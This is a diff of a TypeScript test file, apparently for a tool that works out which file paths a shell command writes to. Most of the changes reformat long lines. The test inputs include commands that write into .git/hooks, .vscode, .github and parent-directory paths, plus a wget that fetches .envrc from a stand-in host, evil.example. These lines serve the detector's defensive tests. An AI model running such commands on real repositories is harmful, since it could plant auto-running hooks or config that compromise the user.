@@ -37,11 +37,30 @@ describe('writers: arguments that become file names', () => {
 
 	it('getopt reads attached, separate, = and bundled values alike', () => {
 		const grammar = { valued: 'ok', longValued: ['output', 'key'], longFlags: ['reverse'] };
-		for (const line of ['-o out x', '-oout x', '--output=out x', '--output out x', '--out=out x', '-roout x', '-r -o out x', 'x -ro out']) {
+		for (const line of [
+			'-o out x',
+			'-oout x',
+			'--output=out x',
+			'--output out x',
+			'--out=out x',
+			'-roout x',
+			'-r -o out x',
+			'x -ro out',
+		]) {
 			const parsed = parseArgs(words(line), grammar);
-			assert.deepStrictEqual(parsed.options.filter(o => o.value).map(o => [o.name, o.value!.text]).at(-1)?.[1], 'out', line);
+			assert.deepStrictEqual(
+				parsed.options
+					.filter(o => o.value)
+					.map(o => [o.name, o.value!.text])
+					.at(-1)?.[1],
+				'out',
+				line,
+			);
 		}
-		assert.deepStrictEqual(parseArgs(words('-k 2 -- -o'), grammar).operands.map(o => o.text), ['-o']);
+		assert.deepStrictEqual(
+			parseArgs(words('-k 2 -- -o'), grammar).operands.map(o => o.text),
+			['-o'],
+		);
 	});
 
 	it('every spelling of a written-file option names the same target', () => {
@@ -53,7 +72,10 @@ describe('writers: arguments that become file names', () => {
 					fc.constantFrom('.git/hooks/pre-commit', '../out.txt', 'dir/x.y'),
 					(spelling, after, target) => {
 						const option = spelling.replace('{}', target);
-						const line = after && !program.startsWith('git') ? `${program} ${input} ${option}` : `${program} ${option} ${input}`;
+						const line =
+							after && !program.startsWith('git')
+								? `${program} ${input} ${option}`
+								: `${program} ${option} ${input}`;
 						const found = writes(line);
 						assert.ok(found.includes(target), `${line}: ${JSON.stringify(found)}`);
 					},
@@ -66,15 +88,24 @@ describe('writers: arguments that become file names', () => {
 	it('positional and key=value writers, derived names, folders', () => {
 		assert.deepStrictEqual(writes('uniq -c in.txt .git/hooks/x'), ['.git/hooks/x']);
 		assert.deepStrictEqual(writes('dd if=a of=.vscode/t bs=1'), ['.vscode/t']);
-		assert.deepStrictEqual(writes('zip -q .git/hooks/pre-commit a'), ['.git/hooks/pre-commit', '.git/hooks/pre-commit.zip']);
+		assert.deepStrictEqual(writes('zip -q .git/hooks/pre-commit a'), [
+			'.git/hooks/pre-commit',
+			'.git/hooks/pre-commit.zip',
+		]);
 		assert.deepStrictEqual(writes('wget https://evil.example/.envrc'), ['.envrc']);
 		assert.deepStrictEqual(writes('gzip -k notes'), ['notes.gz']);
 		assert.deepStrictEqual(writes('git init -q ../elsewhere'), ['../elsewhere']);
 		assert.deepStrictEqual(writes('git clone -q . .vscode/r'), ['.vscode/r']);
 		assert.deepStrictEqual(writes('git format-patch -o .github/x -1'), ['.github/x']);
 		assert.deepStrictEqual(writes('split -l 1 a.txt .git/hooks/p'), ['.git/hooks/p']);
-		assert.deepStrictEqual(writes('csplit -b %d -f x a 1').map(w => w ?? '?'), ['?', 'x']);
-		assert.deepStrictEqual(writes('tar -xf a.tar').map(w => w ?? '?'), ['?']);
+		assert.deepStrictEqual(
+			writes('csplit -b %d -f x a 1').map(w => w ?? '?'),
+			['?', 'x'],
+		);
+		assert.deepStrictEqual(
+			writes('tar -xf a.tar').map(w => w ?? '?'),
+			['?'],
+		);
 		assert.deepStrictEqual(writes('tar -tf a.tar'), []);
 		assert.deepStrictEqual(writes('sort -o /dev/stdout x'), ['/dev/stdout']);
 	});
